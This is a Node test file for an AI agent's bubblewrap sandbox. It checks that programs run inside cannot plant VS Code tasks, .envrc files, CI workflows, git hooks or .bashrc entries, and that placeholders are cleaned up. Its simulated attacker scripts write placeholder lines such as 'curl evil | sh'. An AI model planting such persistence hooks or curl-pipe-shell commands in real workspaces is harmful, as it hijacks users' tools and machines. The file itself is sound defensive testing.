/**
 * The real thing: programs run inside bubblewrap (skipped where it does not work) try to write and
 * create protected paths at the workspace root; none may, ordinary files are written, reading `.git`
 * works, and the folder holds exactly what it held before (plus what was legitimately written) once
 * the command has ended — also when it is killed.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, describe, it } from 'node:test';
import { bwrapArguments } from '../../src/agent/sandbox/bwrap';
import { NestedProtected } from '../../src/agent/sandbox/nestedProtected';
import { protectedLinks, ProtectedPlaceholders } from '../../src/agent/sandbox/placeholders';
import { BWRAP, bwrapWorks } from './bwrapHere';

const works = bwrapWorks;
const skip = works ? false : 'no working bubblewrap here';

/** A program (not the command line) that tries to create each protected path and writes an ordinary file. */
const ATTACKER = `
const fs = require('fs');
const tries = {
  tasks: () => { fs.mkdirSync('.vscode', { recursive: true }); fs.writeFileSync('.vscode/tasks.json', '{}'); },
  envrc: () => fs.writeFileSync('.envrc', 'curl evil | sh'),
  workflow: () => { fs.mkdirSync('.github/workflows', { recursive: true }); fs.writeFileSync('.github/workflows/x.yml', 'on: push'); },
  hook: () => { fs.mkdirSync('.git/hooks', { recursive: true }); fs.writeFileSync('.git/hooks/pre-commit', 'evil'); },
  npmrc: () => { fs.rmSync('.npmrc', { force: true }); fs.writeFileSync('.npmrc', 'x'); },
  replace: () => { fs.renameSync('.vscode', 'gone'); fs.mkdirSync('.vscode'); },
};
const out = {};
for (const [name, attempt] of Object.entries(tries)) {
  try { attempt(); out[name] = 'written'; } catch (e) { out[name] = e.code; }
}
fs.writeFileSync('ordinary.txt', 'fine');
console.log(JSON.stringify(out));
`;

/** A program that creates protected names below the root (and a home startup file), and changes existing ones. */
const NESTED_ATTACKER = `
const fs = require('fs');
const tries = {
  envrc: () => { fs.mkdirSync('sub/deep', { recursive: true }); fs.writeFileSync('sub/.envrc', 'curl evil | sh'); },
  hook: () => { fs.mkdirSync('sub/.git/hooks', { recursive: true }); fs.writeFileSync('sub/.git/hooks/pre-commit', 'evil'); },
  gitFile: () => { fs.mkdirSync('a/b', { recursive: true }); fs.writeFileSync('a/b/.git', 'gitdir: ../../evil'); },
  workspace: () => fs.writeFileSync('app.code-workspace', '{"tasks":{}}'),
  deepWorkspace: () => fs.writeFileSync('sub/deep/x.code-workspace', '{}'),
  bashrc: () => fs.writeFileSync('.bashrc', 'evil'),
  existingEnvrc: () => fs.appendFileSync('pkg/.envrc', 'curl evil | sh'),
  existingHook: () => { fs.mkdirSync('pkg/.git/hooks'); fs.writeFileSync('pkg/.git/hooks/pre-commit', 'evil'); },
  vscode: () => { fs.mkdirSync('sub/.vscode', { recursive: true }); fs.writeFileSync('sub/.vscode/settings.json', '{}'); },
  inPackages: () => fs.writeFileSync('node_modules/dep/.envrc', 'x'),
};
const out = {};
for (const [name, attempt] of Object.entries(tries)) {
  try { attempt(); out[name] = 'written'; } catch (e) { out[name] = e.code; }
}
fs.writeFileSync('sub/ordinary.txt', 'fine');
console.log(JSON.stringify(out));
`;

const roots: string[] = [];
after(() => roots.forEach((r) => rmSync(r, { recursive: true, force: true })));

function workspace(files: Record<string, string> = {}): string {
  const root = mkdtempSync(path.join(os.tmpdir(), 'switchyard-placeholders-'));
  roots.push(root);
  for (const [name, text] of Object.entries(files)) writeFileSync(path.join(root, name), text);
  return root;
}

function argv(folders: readonly string[], readOnly: readonly string[], command: string): string[] {
  const plan = { writable: folders, readOnly, hiddenFolders: [], hiddenFiles: [], cwd: folders[0]!, network: false };
  return bwrapArguments({ ...plan, shell: '/bin/bash', command });
}

/** Runs `command` in the sandbox as the extension does: placeholders held for the run (but `creatable`), released after. */
function run(
  holder: ProtectedPlaceholders,
  folders: readonly string[],
  command: string,
  creatable: readonly string[] = [],
): string {
  const held = holder.hold(folders, creatable);
  try {
    const r = spawnSync(BWRAP!, argv(folders, held.readOnly, command), { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
    return r.stdout;
  } finally {
    held.release();
  }
}

const node = JSON.stringify(process.execPath);

describe('a program in the sandbox cannot create a protected path', { skip }, () => {
  it('fails to create .vscode/tasks.json, .envrc, .github/workflows/x.yml, .git/hooks in every folder, and leaves nothing behind', () => {
    const a = workspace({ 'attack.js': ATTACKER });
    const b = workspace({ 'attack.js': ATTACKER });
    const holder = new ProtectedPlaceholders();
    for (const folder of [a, b]) {
      const out = run(holder, [a, b], `cd ${JSON.stringify(folder)} && ${node} attack.js`);
      const results = JSON.parse(out) as Record<string, string>;
      for (const [name, result] of Object.entries(results)) assert.notEqual(result, 'written', `${folder}: ${name}`);
      assert.deepEqual(readdirSync(folder).sort(), ['attack.js', 'ordinary.txt'], folder);
    }
  });

  it('keeps an existing repository readable (git status, log, diff) and unwritable', () => {
    const ws = workspace({ 'a.txt': 'one\n' });
    const git = (...args: string[]): void => {
      const r = spawnSync('git', ['-c', 'user.email=t@t', '-c', 'user.name=t', ...args], { cwd: ws, encoding: 'utf8' });
      assert.equal(r.status, 0, r.stderr);
    };
    git('init', '-q');
    git('add', 'a.txt');
    git('commit', '-q', '-m', 'first');
    writeFileSync(path.join(ws, 'a.txt'), 'two\n');
    const out = run(
      new ProtectedPlaceholders(),
      [ws],
      'git status --short && git log --oneline | wc -l && git diff --stat | tail -1 && (echo evil > .git/hooks/pre-commit || echo refused) && (rm -rf .git 2>/dev/null; test -d .git/objects && echo kept)',
    );
    // (Missing protected files show as untracked while their placeholders stand in: runCommand notes it.)
    assert.match(out, /^ M a\.txt\n(\?\? \.[a-z.-]+\n)*1\n 1 file changed.*\nrefused\nkept\n$/);
    assert.ok(!existsSync(path.join(ws, '.git/hooks/pre-commit')));
    assert.deepEqual(readdirSync(ws).sort(), ['.git', 'a.txt']);
  });

  it('git init: fails while .git is held; approved, creates the repository, every other protected path still held', () => {
    const ws = workspace({ 'attack.js': ATTACKER });
    const holder = new ProtectedPlaceholders();
    assert.match(run(holder, [ws], 'git init -q 2>&1 || echo failed'), /failed\n$/);
    assert.deepEqual(readdirSync(ws).sort(), ['attack.js']);
    const gitDir = path.join(ws, '.git');
    assert.equal(run(holder, [ws], 'git init -q && test -f .git/HEAD && echo made', [gitDir]), 'made\n');
    // The grant frees .git alone: every other protected path is held as ever in that run (which is
    // why only a plain `git init` line is ever granted it: gitInit.ts).
    rmSync(gitDir, { recursive: true });
    const results = JSON.parse(run(holder, [ws], `${node} attack.js`, [gitDir])) as Record<string, string>;
    for (const [name, result] of Object.entries(results)) if (name !== 'hook') assert.notEqual(result, 'written', name);
    rmSync(gitDir, { recursive: true, force: true });
    run(holder, [ws], 'git init -q', [gitDir]);
    // Once it exists it is held read-only, grant or not: the grant is for creating a missing one.
    const after = run(holder, [ws], '(echo evil > .git/hooks/pre-commit 2>/dev/null || echo refused)', [gitDir]);
    assert.equal(after, 'refused\n');
    assert.ok(!existsSync(path.join(ws, '.git/hooks/pre-commit')));
    assert.deepEqual(readdirSync(ws).sort(), ['.git', 'attack.js', 'ordinary.txt']);
  });

  it('nested protected names: existing ones cannot be changed, created ones are removed after the command, others stay', async () => {
    const ws = workspace({ 'nested.js': NESTED_ATTACKER });
    mkdirSync(path.join(ws, 'pkg', '.git'), { recursive: true });
    writeFileSync(path.join(ws, 'pkg', '.git', 'config'), '[core]\n');
    writeFileSync(path.join(ws, 'pkg', '.envrc'), 'export A=1\n');
    mkdirSync(path.join(ws, 'node_modules', 'dep'), { recursive: true });
    const holder = new ProtectedPlaceholders();
    const nested = new NestedProtected(ws);
    const hold = await nested.hold([ws]);
    const held = holder.hold([ws]);
    let out: string;
    try {
      const r = spawnSync(BWRAP!, argv([ws], [...held.readOnly, ...hold.existing], `${node} nested.js`), {
        encoding: 'utf8',
      });
      assert.equal(r.status, 0, r.stderr);
      out = r.stdout;
    } finally {
      held.release();
    }
    const results = JSON.parse(out) as Record<string, string>;
    assert.notEqual(results.existingEnvrc, 'written');
    assert.notEqual(results.existingHook, 'written');
    const created = (await hold.undoCreated()).map((p) => path.relative(ws, p)).sort();
    assert.deepEqual(created, [
      '.bashrc',
      'a/b/.git',
      'app.code-workspace',
      'sub/.envrc',
      'sub/.git',
      'sub/deep/x.code-workspace',
    ]);
    for (const p of created) assert.ok(!existsSync(path.join(ws, p)), p);
    assert.equal(readFileSync(path.join(ws, 'pkg', '.envrc'), 'utf8'), 'export A=1\n');
    assert.ok(!existsSync(path.join(ws, 'pkg', '.git', 'hooks')));
    // Not chosen (read only at a folder's root) or left out of the walk: kept.
    assert.ok(existsSync(path.join(ws, 'sub', '.vscode', 'settings.json')));
    assert.ok(existsSync(path.join(ws, 'node_modules', 'dep', '.envrc')));
    assert.ok(existsSync(path.join(ws, 'sub', 'ordinary.txt')));
    assert.deepEqual(await (await nested.hold([ws])).undoCreated(), [], 'nothing more to undo next time');
  });

  it('holds the target of a linked name: a dangling .envrc link cannot be written through, and stays as it was', () => {
    const ws = workspace({ 'attack.js': ATTACKER });
    symlinkSync('real.envrc', path.join(ws, '.envrc'));
    mkdirSync(path.join(ws, 'conf'));
    symlinkSync('conf/github', path.join(ws, '.github'));
    const results = JSON.parse(run(new ProtectedPlaceholders(), [ws], `${node} attack.js`)) as Record<string, string>;
    assert.notEqual(results.envrc, 'written');
    assert.notEqual(results.workflow, 'written');
    assert.equal(readlinkSync(path.join(ws, '.envrc')), 'real.envrc');
    assert.deepEqual(readdirSync(ws).sort(), ['.envrc', '.github', 'attack.js', 'conf', 'ordinary.txt']);
    assert.deepEqual(readdirSync(path.join(ws, 'conf')), []);
    // A link itself cannot be mounted over: commands ask while one is there (policy.ts).
    assert.deepEqual([...protectedLinks([ws])].sort(), [path.join(ws, '.envrc'), path.join(ws, '.github')]);
  });

  it('removes the placeholders when a command is killed, and only once the last command holding them ends', async () => {
    const ws = workspace();
    const holder = new ProtectedPlaceholders();
    const first = holder.hold([ws]);
    const second = holder.hold([ws]);
    const child = spawn(BWRAP!, argv([ws], first.readOnly, 'echo started; sleep 30'), { detached: true });
    await new Promise<void>((resolve) => child.stdout.once('data', () => resolve()));
    assert.ok(readdirSync(ws).includes('.vscode') && readdirSync(ws).includes('.envrc'));
    process.kill(-child.pid!, 'SIGKILL');
    await new Promise((resolve) => child.once('close', resolve));
    first.release();
    // The other command still runs on them: they stay.
    assert.ok(readdirSync(ws).includes('.vscode'));
    second.release();
    assert.deepEqual(readdirSync(ws), []);
  });

  it('never removes what was made or written outside the sandbox meanwhile', () => {
    const ws = workspace();
    const logged: string[] = [];
    const held = new ProtectedPlaceholders((m) => logged.push(m)).hold([ws]);
    writeFileSync(path.join(ws, '.vscode', 'settings.json'), '{}');
    writeFileSync(path.join(ws, '.npmrc'), 'registry=x');
    rmSync(path.join(ws, '.envrc'));
    mkdirSync(path.join(ws, '.envrc'));
    held.release();
    assert.deepEqual(readdirSync(ws).sort(), ['.envrc', '.npmrc', '.vscode']);
    assert.equal(logged.length, 3, logged.join('\n'));
  });

  it('removes what a dead extension host left behind (by its record), never what a live one holds or what was written since', () => {
    const ws = workspace();
    const manifests = workspace();
    const make = (rel: string, kind: 'file' | 'folder') => {
      const p = path.join(ws, rel);
      if (kind === 'folder') mkdirSync(p);
      else writeFileSync(p, '');
      const { dev, ino } = lstatSync(p);
      return { path: p, kind, dev, ino };
    };
    const dead = spawnSync(process.execPath, ['-e', '0']).pid;
    const left = [make('.vscode', 'folder'), make('.envrc', 'file'), make('.github', 'folder')];
    writeFileSync(path.join(ws, '.github', 'written.yml'), 'on: push');
    writeFileSync(path.join(manifests, `placeholders-${dead}.json`), JSON.stringify(left));
    const live = `placeholders-${process.ppid}.json`;
    writeFileSync(path.join(manifests, live), JSON.stringify([make('.devcontainer', 'folder')]));

    const held = new ProtectedPlaceholders(() => undefined, manifests).hold([ws]);
    assert.deepEqual(readdirSync(manifests).sort(), [live, `placeholders-${process.pid}.json`].sort());
    held.release();
    assert.deepEqual(readdirSync(ws).sort(), ['.devcontainer', '.github']);
    assert.deepEqual(readdirSync(manifests), [live]);
  });
});
